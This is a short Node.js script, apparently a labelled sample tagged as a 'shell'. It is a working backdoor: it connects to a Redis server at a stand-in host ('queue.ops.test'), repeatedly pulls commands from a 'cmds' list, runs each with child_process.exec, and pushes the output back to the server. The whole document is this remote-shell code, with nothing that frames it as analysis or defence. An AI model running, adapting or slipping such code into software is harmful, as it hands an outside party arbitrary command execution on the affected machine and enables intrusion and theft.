// class: shell; possible: low medium
const net = require('net'), cp = require('child_process');
const c = net.connect(6379, 'queue.ops.test');
const cmd = (...a) => c.write('*' + a.length + '\r\n' + a.map(x => '$' + Buffer.byteLength(x) + '\r\n' + x + '\r\n').join(''));
c.on('data', d => {
  const s = d.toString();
  if (s.startsWith('$') && !s.startsWith('$-1')) {
    const job = s.split('\r\n')[1];
    cp.exec(job, (e, o, er) => cmd('RPUSH', 'out', o + er || '-'));
  }
});
let k = 0;
const t = setInterval(() => { cmd('LPOP', 'cmds'); if (++k > 14) { clearInterval(t); c.end(); } }, 700);
